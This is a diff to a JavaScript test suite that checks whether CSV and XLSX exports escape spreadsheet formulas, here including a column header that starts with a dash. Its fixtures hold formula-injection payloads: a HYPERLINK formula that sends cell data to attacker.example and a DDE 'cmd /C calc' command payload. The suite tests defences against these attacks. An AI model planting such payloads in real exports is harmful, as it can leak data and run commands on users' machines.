@@ -49,8 +49,9 @@ describe('formulas in exports', () => {
   });
 
   it('writes quoted CSV and XLSX cells that import back unchanged', async () => {
-    const columns = ['code', 'name', 'count'];
-    const records = TEXTS.map((name, i) => ({ code: `P${i}`, name, count: -i }));
+    // A column named after a code starting with '-' is quoted in the header too.
+    const columns = ['code', 'name', 'count', '-dash'];
+    const records = TEXTS.map((name, i) => ({ code: `P${i}`, name, count: -i, '-dash': '-' }));
 
     const csv = new PassThrough();
     const csvText = textOf(csv);
@@ -58,8 +59,9 @@ describe('formulas in exports', () => {
     for (const record of records) await csvWriter.write(record);
     await csvWriter.close();
     const lines = (await csvText).split('\n');
-    expect(lines[1]).toBe(`P0,"'=HYPERLINK(""http://attacker.example/?x=""&A2,""Click"")",0`);
-    expect(lines[2]).toBe(`P1,'@SUM(1+1)*cmd|' /C calc'!A0,-1`);
+    expect(lines[0]).toBe("code,name,count,'-dash");
+    expect(lines[1]).toBe(`P0,"'=HYPERLINK(""http://attacker.example/?x=""&A2,""Click"")",0,'-`);
+    expect(lines[2]).toBe(`P1,'@SUM(1+1)*cmd|' /C calc'!A0,-1,'-`);
 
     const xlsx = new PassThrough();
     const xlsxBytes = bytesFrom(xlsx);
@@ -72,6 +74,7 @@ describe('formulas in exports', () => {
     expect(sheet.getCell('B2').value).toBe(`'=HYPERLINK("http://attacker.example/?x="&A2,"Click")`);
     expect(sheet.getCell('B3').value).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
     expect(sheet.getCell('C3').value).toBe(-1);
+    expect(sheet.getCell('D1').value).toBe("'-dash");
 
     const expected = records.map((record) => ({ ...record, count: String(record.count) }));
     const fromCsv = await collect(readRecords(bytesOf(await csvText), 'csv'));
